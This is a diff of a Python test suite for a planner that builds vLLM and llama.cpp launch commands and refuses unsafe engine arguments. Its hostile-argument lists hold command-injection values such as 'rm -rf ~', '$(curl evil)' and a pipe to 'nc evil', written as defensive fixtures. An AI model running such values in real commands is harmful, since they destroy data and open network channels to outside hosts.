@@ -14,7 +14,6 @@ from worker.plan import EnginePlan, Plan, Refusal, plan
 BASE = ["--max-model-len", "32768", "--enforce-eager"]
 TIER_24 = ["--no-enforce-eager", "--max-num-seqs", "128"]
 TIER_40 = ["--no-enforce-eager", "--max-num-seqs", "128", "--max-model-len", "65536"]
-APP_OWNED_TAIL = ["--host", "127.0.0.1", "--port"]
 
 
 def assign(weights_mib: int = 17800, *, vllm: dict[str, Any] | None = None, llamacpp: dict[str, Any] | None = None,
@@ -28,7 +27,7 @@ def assign(weights_mib: int = 17800, *, vllm: dict[str, Any] | None = None, llam
         } | (vllm or {})
     if "llamacpp" in engines:
         model["llamacpp"] = {
-            "source": "https://example.org/qwen3.8-27b-Q4_K_M.gguf", "weights_mib": weights_mib,
+            "source": "https://example.org/qwen3.8-27b-Q4_K_M.gguf", "sha256": "ab" * 32, "weights_mib": weights_mib,
             "base_args": ["--ctx-size", "32768"], "tiers": {"40000": ["--ctx-size", "65536"]},
         } | (llamacpp or {})
     return protocol.Assign(assignment_id="a-17", model=model)
@@ -72,8 +71,8 @@ def test_two_4090s_with_the_27b_model_run_one_tensor_parallel_engine():
     assert engine.env == {"CUDA_VISIBLE_DEVICES": "0,1"}
     assert engine.argv("key-1") == [
         "vllm", "serve", "org/Qwen3.8-27B-W4A16", *BASE, *TIER_40, "--tensor-parallel-size", "2",
-        "--host", "127.0.0.1", "--port", "18100", "--api-key", "key-1", "--served-model-name", "qwen3.8-27b",
-    ]
+        "--host", "127.0.0.1", "--port", "18100", "--served-model-name", "qwen3.8-27b",
+    ]  # the API key travels in the engine's environment, never on its command line
 
 
 def test_fallback_argv_and_lowest_tier_falls_back_to_base_alone():
@@ -91,12 +90,12 @@ def test_replicas_get_distinct_ports_and_their_own_gpu():
     ]
 
 
-def test_plan_json_shows_the_command_with_the_key_hidden():
+def test_plan_json_shows_the_command_without_the_key():
     data = plan(replay("rtx4090x2-no-p2p.json"), assign(6200), Settings()).to_json()
     assert data["engine"] == "vllm"
     assert [set(e) for e in data["engines"]] == [{"engine_id", "gpu_indices", "layout", "memory_mib", "argv"}] * 2
     argv = data["engines"][1]["argv"]
-    assert argv[argv.index("--api-key") + 1] == "***"
+    assert "--api-key" not in argv and "***" not in argv
     assert argv[argv.index("--port") + 1] == "18101"
 
 
@@ -113,7 +112,7 @@ def test_apple_silicon_gets_llama_cpp_over_the_working_set():
     assert (engine.gpu_indices, engine.layout, engine.memory_mib, engine.tier) == ((), "single", 98304, "40000")
     assert engine.argv("k") == [
         "llama-server", "-m", "/cache/q.gguf", "--ctx-size", "32768", "--ctx-size", "65536", "--host", "127.0.0.1",
-        "--port", "18100", "--api-key", "k", "--alias", "qwen3.8-27b", "--metrics",
+        "--port", "18100", "--alias", "qwen3.8-27b", "--metrics",
     ]
 
 
@@ -128,7 +127,7 @@ def test_the_detected_engine_binary_is_used():
 def test_cpu_machine_gets_llama_cpp_over_ram():
     result = plan(replay("no-gpu.json"), assign(16500), Settings())
     assert layout_of(result) == [((), "single", 24105, None)]
-    assert result.engines[0].model == "qwen3.8-27b-Q4_K_M.gguf"
+    assert result.engines[0].model == "ab" * 32 + ".gguf"  # a download is named by its sha256
 
 
 def _machine(runtime: str, groups: tuple[GpuGroup, ...], **extra: Any) -> Machine:
@@ -136,11 +135,16 @@ def _machine(runtime: str, groups: tuple[GpuGroup, ...], **extra: Any) -> Machin
                    groups=groups, effective_vram_mib=groups[0].usable_mib_total if groups else 0, **extra)
 
 
-def test_windows_runs_one_llama_cpp_engine_over_the_whole_group():
+def test_windows_runs_one_llama_cpp_engine_splitting_layers_over_the_whole_group():
     group = GpuGroup((0, 1), "NVIDIA GeForce RTX 4090", 20600, compute_capability="8.9")
     result = plan(_machine("windows", (group,)), assign(30000), Settings())
-    assert layout_of(result) == [((0, 1), "tensor", 41200, "40000")]
-    assert result.engine == "llamacpp"
+    assert layout_of(result) == [((0, 1), "layers", 41200, "40000")]
+    assert result.engine == "llamacpp" and result.engines[0].tensor_parallel == 1
+
+
+def test_llama_cpp_on_one_card_is_single():
+    group = GpuGroup((0,), "NVIDIA GeForce RTX 4090", 20600, compute_capability="8.9")
+    assert layout_of(plan(_machine("windows", (group,)), assign(6000), Settings())) == [((0,), "single", 20600, None)]
 
 
 def test_old_gpus_cannot_run_vllm():
@@ -183,6 +187,22 @@ def test_bad_sources_are_refused(source):
     assert source in result.reason
 
 
+def test_a_gguf_download_without_its_sha256_is_refused():
+    result = plan(replay("no-gpu.json"), assign(6000, llamacpp={"sha256": None}), Settings())
+    assert isinstance(result, Refusal) and "sha256" in result.reason
+
+
+def test_an_engine_version_the_app_does_not_ship_is_refused():
+    result = plan(replay("rtx4090.json"), assign(6000, vllm={"engine_version": "0.6.0"}), Settings())
+    assert isinstance(result, Refusal) and "0.6.0" in result.reason
+
+
+def test_arguments_are_checked_before_the_version_and_the_source():
+    result = plan(replay("rtx4090.json"), assign(6000, vllm={"engine_version": "0.6.0", "source": "../x",
+                                                             "tiers": {"24000": ["--log-file", "/x"]}}), Settings())
+    assert isinstance(result, Refusal) and result.reason.startswith("argument not allowed: --log-file (in tier 24000): ")
+
+
 VLLM_HOSTILE = [
     ["--host=0.0.0.0"], ["--host", "0.0.0.0"], ["--port", "8000"], ["--port=1"], ["--api-key", "x"],
     ["--api_key", "x"], ["--served-model-name", "other"], ["--served_model_name=other"], ["--hos", "0.0.0.0"],
@@ -192,6 +212,7 @@ VLLM_HOSTILE = [
     ["--middleware", "evil.mod"], ["--worker-cls", "evil.W"], ["--speculative-config", '{"method":"custom_class"}'],
     ["--max-model-len", "32768\n--host"], ["--max-model-len", "32768\x00"], ["--max-model-len", "1; rm -rf ~"],
     ["--chat-template", "$(curl evil)"], ["--served", "`id`"], ["--max-num-seqs", "8 | nc evil 1"], ["--x", "a>b"],
+    ["--reasoning-parser", "deepseek_r1"], ["--hf-overrides", '{"rope_scaling": {"factor": 2.0}}'],
 ]
 
 
@@ -199,8 +220,9 @@ VLLM_HOSTILE = [
 def test_hostile_vllm_arguments_are_refused_in_base_args_and_in_any_tier(args):
     in_base = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": BASE + args}), Settings())
     in_unused_tier = plan(replay("rtx4090.json"), assign(6000, vllm={"tiers": {"90000": args}}), Settings())
-    assert isinstance(in_base, Refusal) and in_base.reason.startswith("refused base_args: ")
-    assert isinstance(in_unused_tier, Refusal) and in_unused_tier.reason.startswith("refused tier 90000: ")
+    for result, where in ((in_base, "(in base_args): "), (in_unused_tier, "(in tier 90000): ")):
+        assert isinstance(result, Refusal)
+        assert result.reason.startswith(("argument not allowed: ", "value not allowed for ")) and where in result.reason
 
 
 LLAMA_HOSTILE = [
@@ -208,6 +230,7 @@ LLAMA_HOSTILE = [
     ["--alias=other"], ["-m", "/other.gguf"], ["-hf", "evil/model"], ["--rpc", "10.0.0.1:50052"],
     ["--fim-qwen-7b-default"], ["--path", "/"], ["LLAMA_ARG_HOST=0.0.0.0"], ["LLAMA_API_KEY=k"],
     ["--tools", "all"], ["--agent"], ["--mcp-servers-config", "/x.json"], ["--ctx-size", "8192\n--host"],
+    ["-ot", "exps=CPU"],
 ]
 
 
@@ -215,38 +238,106 @@ LLAMA_HOSTILE = [
 def test_hostile_llama_cpp_arguments_are_refused(args):
     result = plan(replay("m4-max-128gb.json"), assign(6000, llamacpp={"base_args": args}), Settings())
     assert isinstance(result, Refusal), args
+    assert result.reason.startswith(("argument not allowed: ", "value not allowed for ")), result.reason
 
 
 @pytest.mark.parametrize(
     "args",
-    [["--max-model-len", "-1"], ["--no-trust-remote-code"], ["--speculative-config", '{"method":"mtp","num_speculative_tokens":2}'],
-     ["--hf-overrides", '{"rope_scaling": {"factor": 2.0}}'], ["--max-model-len", "25.6k"], ["--kv-cache-dtype", "fp8"],
-     ["--reasoning-parser", "deepseek_r1"], ["--tool-call-parser", "hermes"]],
+    [["--max-model-len", "-1"], ["--max-model-len", "auto"], ["--no-trust-remote-code"],
+     ["--speculative-config", '{"method":"mtp","num_speculative_tokens":2}'], ["--max-model-len", "25.6k"],
+     ["--kv-cache-dtype", "fp8"], ["--max-num-batched-tokens=8k"], ["-O3"], ["-cc", '{"cudagraph_mode": "PIECEWISE"}'],
+     ["--enable-prefix-caching", "--enable-chunked-prefill", "--max-num-batched-tokens", "4096"]],
 )
 def test_ordinary_vllm_arguments_pass(args):
     result = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": args}), Settings())
     assert isinstance(result, Plan) and list(result.engines[0].args) == args
 
 
-def test_llama_cpp_override_tensor_is_not_mistaken_for_an_environment_variable():
-    result = plan(replay("m4-max-128gb.json"), assign(6000, llamacpp={"base_args": ["-ot", "exps=CPU", "-fa", "on"]}), Settings())
+def test_llama_cpp_moe_offload_is_a_listed_flag():
+    result = plan(replay("m4-max-128gb.json"), assign(6000, llamacpp={"base_args": ["-ncmoe", "8", "-fa", "on"]}),
+                  Settings())
     assert isinstance(result, Plan)
 
 
-def test_settings_can_allow_remote_code_and_app_owned_arguments():
+def test_remote_code_passes_only_where_the_settings_allow_it():
     code = assign(6000, vllm={"base_args": ["--trust-remote-code"]})
-    owned = assign(6000, vllm={"base_args": ["--port", "9"]})
     assert isinstance(plan(replay("rtx4090.json"), code, Settings(allow_remote_code=True)), Plan)
-    result = plan(replay("rtx4090.json"), owned, Settings(allow_app_owned_args=True))
-    assert isinstance(result, Plan)
-    argv = result.engines[0].argv("k")
-    assert argv[-6:-4] == ["--port", "18100"]  # the app's own value comes last and wins
+    refused = plan(replay("rtx4090.json"), code, Settings())
+    assert isinstance(refused, Refusal) and refused.reason.startswith("argument not allowed: --trust-remote-code")
 
 
-def test_forbidden_flags_stay_refused_whatever_the_settings():
-    permissive = Settings(allow_remote_code=True, allow_app_owned_args=True)
-    result = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": ["--uds", "/tmp/x"]}), permissive)
-    assert isinstance(result, Refusal) and "never allowed" in result.reason
+@pytest.mark.parametrize("args", [["--uds", "/tmp/x"], ["--port", "9"], ["--host", "0.0.0.0"], ["-tp", "2"]])
+def test_app_owned_and_forbidden_flags_stay_refused_whatever_the_settings(args):
+    result = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": args}), Settings(allow_remote_code=True))
+    assert isinstance(result, Refusal) and result.reason.startswith(f"argument not allowed: {args[0]} (in base_args)")
+
+
+# --- the memory cap (contract, Assignment rule 3) -----------------------------------------------------------
+
+CAP = "--gpu-memory-utilization"
+
+
+def only_engine(result: Plan | Refusal) -> EnginePlan:
+    assert isinstance(result, Plan), result
+    (engine,) = result.engines
+    return engine
+
+
+def test_a_cap_leaves_the_args_and_is_recorded():
+    engine = only_engine(plan(replay("rtx5090.json"), assign(17800, vllm={"base_args": [CAP, "0.9", *BASE]}), Settings()))
+    assert engine.memory_cap == 0.9 and engine.args == tuple(BASE + TIER_24)
+    assert CAP not in engine.argv("k") and all(CAP not in args for _, args in engine.fallbacks)
+    assert engine.fallbacks == ((None, tuple(BASE)),)
+
+
+def test_no_cap_means_none():
+    assert only_engine(plan(replay("rtx5090.json"), assign(17800), Settings())).memory_cap is None
+
+
+def test_the_tier_is_judged_by_the_capped_memory():
+    """5090: 27,715 MiB usable of 32,607; a 0.7 cap holds it to 22,824 MiB, below the 24000 tier."""
+    engine = only_engine(plan(replay("rtx5090.json"), assign(17800, vllm={"base_args": [*BASE, CAP, "0.7"]}), Settings()))
+    assert (engine.tier, engine.memory_mib, engine.memory_cap, engine.args) == (None, 22824, 0.7, tuple(BASE))
+
+
+def test_a_cap_above_what_is_usable_changes_nothing():
+    engine = only_engine(plan(replay("rtx5090.json"), assign(17800, vllm={"base_args": [*BASE, CAP, "0.95"]}), Settings()))
+    assert (engine.tier, engine.memory_mib, engine.memory_cap) == ("24000", 27715, 0.95)
+
+
+def test_the_last_cap_wins_and_the_alias_counts():
+    base = [CAP, "0.5", *BASE, "--device-memory-utilization=0.7"]
+    engine = only_engine(plan(replay("rtx5090.json"), assign(17800, vllm={"base_args": base}), Settings()))
+    assert (engine.memory_cap, engine.memory_mib, engine.args) == (0.7, 22824, tuple(BASE))
+
+
+def test_a_tier_is_judged_under_its_own_cap():
+    """The 24000 tier's own 0.7 cap would leave 22,824 MiB, so the tier is not taken; under 0.8 it is."""
+    low = assign(17800, vllm={"tiers": {"24000": [*TIER_24, CAP, "0.7"]}})
+    high = assign(17800, vllm={"tiers": {"24000": [*TIER_24, f"{CAP}=0.8"]}})
+    assert (only_engine(plan(replay("rtx5090.json"), low, Settings())).tier,
+            only_engine(plan(replay("rtx5090.json"), low, Settings())).memory_cap) == (None, None)
+    taken = only_engine(plan(replay("rtx5090.json"), high, Settings()))
+    assert (taken.tier, taken.memory_mib, taken.memory_cap, taken.args) == ("24000", 26085, 0.8, tuple(BASE + TIER_24))
+
+
+def test_fit_and_layout_are_judged_by_the_cap():
+    """Two 4090s under a 0.8 cap: 19,651 MiB a card, too little for 17,800 MiB of weights on one card at
+    90 %, so still one tensor-parallel engine, now judged by 39,302 MiB: the 24000 tier, not 40000."""
+    result = plan(replay("rtx4090x2-no-p2p.json"), assign(17800, vllm={"base_args": [*BASE, CAP, "0.8"]}), Settings())
+    assert layout_of(result) == [((0, 1), "tensor", 39302, "24000")]
+
+
+def test_a_model_that_fits_only_without_the_cap_is_refused_naming_the_cap():
+    result = plan(replay("rtx4090.json"), assign(17800, vllm={"base_args": [CAP, "0.5"]}), Settings())
+    assert isinstance(result, Refusal)
+    assert "12,282 MiB usable each, held to the assignment's memory cap of 0.5" in result.reason
+
+
+@pytest.mark.parametrize("value", ["0", "1.5", "-0.1", "nan", "90%", "0,9"])
+def test_a_cap_outside_0_to_1_is_refused(value):
+    result = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": [CAP, value]}), Settings())
+    assert isinstance(result, Refusal) and result.reason.startswith(f"value not allowed for {CAP} (in base_args): ")
 
 
 def test_engine_plan_is_frozen():
